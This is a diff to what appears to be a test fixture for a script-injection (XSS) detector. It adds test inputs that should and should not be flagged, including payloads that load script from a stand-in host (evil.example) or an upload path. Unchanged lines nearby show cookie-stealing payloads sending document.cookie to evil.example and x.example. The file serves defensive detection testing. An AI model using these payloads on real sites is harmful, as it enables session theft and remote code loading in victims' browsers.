@@ -939,6 +939,10 @@ const SCRIPT_ELEMENT: Case[] = [
   ["header:User-Agent", "<script>alert(1)</script> Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"],
   ["body:json", JSON.stringify({ bio: "hi</textarea><script>location='//evil.example/?c='+document.cookie</script>" })],
   ["query", "q=<script/src=//evil.example/x.js></script>"],
+  // From elsewhere, or from a path the attacker chose.
+  ["query", "q=" + encodeURIComponent("<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>")],
+  ["body:json", JSON.stringify({ bio: "<script src=/uploads/avatar.js></script>" })],
+  ["query", "q=" + encodeURIComponent("<script src=data:,alert(1)></script>")],
   ["body:form", "c=<script type=text/javascript>\n// load\nnew Image().src='//x.example/'+document.cookie</script>"],
   // A comment before it is no page; padding cut into pieces leaves it in its text.
   ["query", "q=" + encodeURIComponent("<!-- x --><script>alert(1)</script>")],
@@ -958,6 +962,9 @@ const NOT_SCRIPT_ELEMENT: Case[] = [
   ["body:json", JSON.stringify({ html: "<!--\n  Copyright (c) Example Corp.\n  Licensed under the Apache License, Version 2.0.\n-->\n<!DOCTYPE html>\n<html lang=\"en\"><head><title>Inspector</title><script type=\"module\" crossorigin src=\"/assets/index.js\"></script></head><body><div id=\"root\"></div></body></html>" })],
   ["body:json", JSON.stringify({ html: "<!DOCTYPE html>\n<html>\n  <head>\n        <title>Release notes</title>\n        <script src=\"/assets/app.js\"></script>\n  </head>\n  <body>\n        <div id=\"root\"></div>\n  </body>\n</html>" })],
   ["query", "q=how to use the script tag"],
+  // A README's own script, from the page's directory.
+  ["body:json", JSON.stringify({ content: "## Usage\n\nIn a browser:\n\n`<script src=\"base64js.min.js\"></script>`\n\nthen call `base64js.toByteArray(s)`." })],
+  ["body:json", JSON.stringify({ content: "Include it:\n\n    <script src=./dist/min.natural-compare.js></script>\n" })],
 ];
 // An event handler attribute that calls, outside any tag: a value breaking out of an attribute.
 const HANDLER_ATTRIBUTE: Case[] = [
